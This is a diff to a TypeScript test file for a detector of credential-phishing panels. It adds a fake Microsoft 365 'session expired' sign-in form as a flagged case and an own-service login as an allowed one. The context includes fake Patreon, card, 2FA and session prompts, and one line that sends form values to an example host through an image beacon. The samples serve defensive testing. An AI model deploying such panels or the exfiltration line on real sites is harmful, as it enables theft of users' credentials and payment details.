@@ -10,6 +10,7 @@ const form = (markup: string, send = SEND): string => `root.innerHTML = \`${mark
 test('bad: panels that ask for a password, a code, a card or words in the name of a service or of the host', () => {
   for (const code of [
     form('<form><img src="https://c5.patreon.com/logo.svg"><h3>Log in to Patreon</h3><input name=email><input name=pw type=password></form>', 'new Image().src = "https://login.rolls.example/p.png?" + new URLSearchParams(value);'),
+    form('<h3>Your session has expired</h3><p>Sign in with your Microsoft 365 account to keep your changes.</p><form><input type="email" name="u"><input type="password" name="p"></form>'),
     form('<h3>Your ComfyVN session has expired</h3><form><input type="password" name="password"></form>'),
     form('<h3>Enter your card to keep using ComfyVN</h3><form><input name=number><input name=cvc></form>'),
     form('<h3>Enter the code that Discord sent you</h3><form><input name=code placeholder="2FA code"></form>'),
@@ -22,6 +23,7 @@ test('bad: panels that ask for a password, a code, a card or words in the name o
 test('good: the login of its own service, keys of services on their servers, links, and questions about something else', () => {
   for (const code of [
     form('<h3>Log in to Rolls</h3><form><input name=user><input type=password name=password></form>', 'await_(fetch("https://login.rolls.example/l", { method: "POST", body: value }));'),
+    form('<h3>Log in to Rolls</h3><form><input name=user><input type=password name=password></form><button>Sign in with your Google account</button>', 'await_(fetch("https://login.rolls.example/l", { method: "POST", body: value }));'),
     form('<h3>Log in to Hugging Face</h3><form><input type=password name=token></form>', 'fetch("https://huggingface.co/api/whoami-v2", { body: value });'),
     'root.innerHTML = `<a href="https://www.patreon.com/rolls">Log in to Patreon and become a patron</a>`; fetch("https://api.rolls.example/news");',
     'const value = prompt("Name of the scene"); fetch("https://names.rolls.example/?q=" + value);',
